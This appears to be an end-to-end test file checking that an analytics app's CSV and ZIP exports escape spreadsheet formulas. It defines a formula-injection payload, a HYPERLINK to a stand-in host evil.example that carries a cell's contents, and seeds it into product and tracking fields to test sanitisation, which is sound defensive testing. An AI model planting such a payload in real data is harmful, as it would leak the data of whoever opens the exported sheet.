import type { Site } from '@astaguide/testbed/launched-site';
import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings/earnings';
import { reportDimensions } from '@astaguide/contracts/analytics/report/report-dimension';
import { botTrafficCsvQuerySchema } from '@astaguide/contracts/analytics/bot-traffic-report';
import { funnelDimensions } from '@astaguide/contracts/analytics/report/visit-funnel';
import { strFromU8, unzipSync } from 'fflate';
import { ApiClient, until } from '../api-client';
import { PRODUCT } from '../content/owner-input';
import { siteForTests } from '../site-for-tests';

const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;

let site: Site;
let owner: ApiClient;
siteForTests(async (started) => {
  ({ site, owner } = started);
  const { body: product } = await owner.post('/api/products', { ...PRODUCT, name: FORMULA });
  const eventData = {
    page: FORMULA,
    linkPlacement: FORMULA,
    referrer: 'https://news.example/',
    utmSource: FORMULA,
    utmMedium: FORMULA,
    utmCampaign: FORMULA,
    utmContent: FORMULA,
    utmTerm: FORMULA,
  };
  for (const eventType of ['page_view', 'affiliate_click']) {
    expect(await new ApiClient(site.url).track({ eventType, eventData, productId: product.id })).toBe(202);
  }
  await until(
    () => owner.get('/api/analytics/summary'),
    ({ body }) => body.totalClicks === 1,
  );
});

/** The values of a CSV's cells, parsed as a spreadsheet does. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(([, quoted, bare]) =>
    (quoted ?? bare!).replaceAll('""', '"'),
  );

const exports = [
  ...['series', ...reportDimensions].map((table) => `/api/analytics/report.csv?table=${table}`),
  '/api/analytics/attribution.csv',
  ...['total', ...funnelDimensions].map((table) => `/api/analytics/funnel.csv?table=${table}`),
  ...botTrafficCsvQuerySchema.shape.table.options.map(
    (table) => `/api/analytics/bot-traffic.csv?table=${table}`,
  ),
  ...earningsCsvQuerySchema.shape.table.options.map((table) => `/api/earnings.csv?table=${table}`),
];

test('one archive has every table of the range, each as its own export', async () => {
  const token = (await owner.post('/api/auth/tokens', { name: 'Archive', scopes: ['analytics:read'] })).body
    .token as string;
  const answer = await fetch(`${site.url}/api/analytics/report.zip?range=today&compare=none`, {
    headers: { authorization: `Bearer ${token}` },
  });
  expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/zip']);
  expect(answer.headers.get('content-disposition')).toMatch(
    /^attachment; filename="analytics-[\d-]+-to-[\d-]+\.zip"$/,
  );
  const files = unzipSync(new Uint8Array(await answer.arrayBuffer()));
  const tables = exports.filter((path) => path.startsWith('/api/analytics/'));
  // Entry pages, exit pages and goals have no hostile cells.
  expect(Object.keys(files)).toHaveLength(tables.length + 3);
  const today = /analytics-series-(.*)\.csv/.exec(Object.keys(files)[0]!)![1]!;
  for (const table of ['page', 'goals']) {
    const { text } = await owner.get(`/api/analytics/report.csv?range=today&compare=none&table=${table}`);
    const archived = strFromU8(files[`analytics-${table}-${today}.csv`]!);
    expect(archived.replace('\uFEFF', '')).toBe(text.replace('\uFEFF', ''));
  }
  expect(
    (await owner.get('/api/analytics/report.zip?range=custom&from=2999-01-01&to=2999-01-02')).status,
  ).toBe(422);
});

test.each(exports)('%s has no cell that a spreadsheet would run', async (path) => {
  const { status, text, headers } = await owner.get(path);
  expect([status, headers.get('content-type')]).toEqual([200, expect.stringMatching(/^text\/csv/)]);
  expect(headers.get('content-disposition')).toMatch(/^attachment/);
  const cells = cellsOf(text);
  expect(cells.length).toBeGreaterThan(2);
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
});

test('the formulas are in them, as texts', async () => {
  const texts = await Promise.all(exports.map(async (path) => (await owner.get(path)).text));
  const holding = exports.filter((_, index) => cellsOf(texts[index]!).some((cell) => cell.startsWith(`'=`)));
  expect(holding).toEqual(
    expect.arrayContaining([
      '/api/analytics/report.csv?table=product',
      '/api/analytics/report.csv?table=campaign',
      '/api/earnings.csv?table=rows',
    ]),
  );
});
